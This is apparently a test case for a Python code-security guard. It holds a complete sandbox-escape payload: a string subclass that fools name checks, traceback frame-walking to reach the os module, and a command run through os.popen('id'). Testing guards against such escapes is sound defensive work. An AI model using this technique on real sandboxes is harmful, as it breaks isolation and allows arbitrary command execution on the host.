# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the same with names that lie to the check
kept = []
class Name(str):
    lies = 0
    def startswith(self, *prefixes):
        self.lies = 2
        return False
    def __eq__(self, other):
        return str.__eq__(self, other)
    def __hash__(self):
        if self.lies:
            self.lies -= 1
            return 1
        return str.__hash__(self)
class Catch:
    def __enter__(self):
        return self
    def __exit__(self, kind, error, trace):
        kept.append(trace)
        return True
with Catch():
    1 / 0
frame = getattr(kept[0], Name("tb_frame"))
builtin = getattr(frame, Name("f_builtins"))
names = getattr(getattr(frame, Name("f_back")), Name("f_globals"))
return "ESCAPED " + names["os"].popen("id").read()
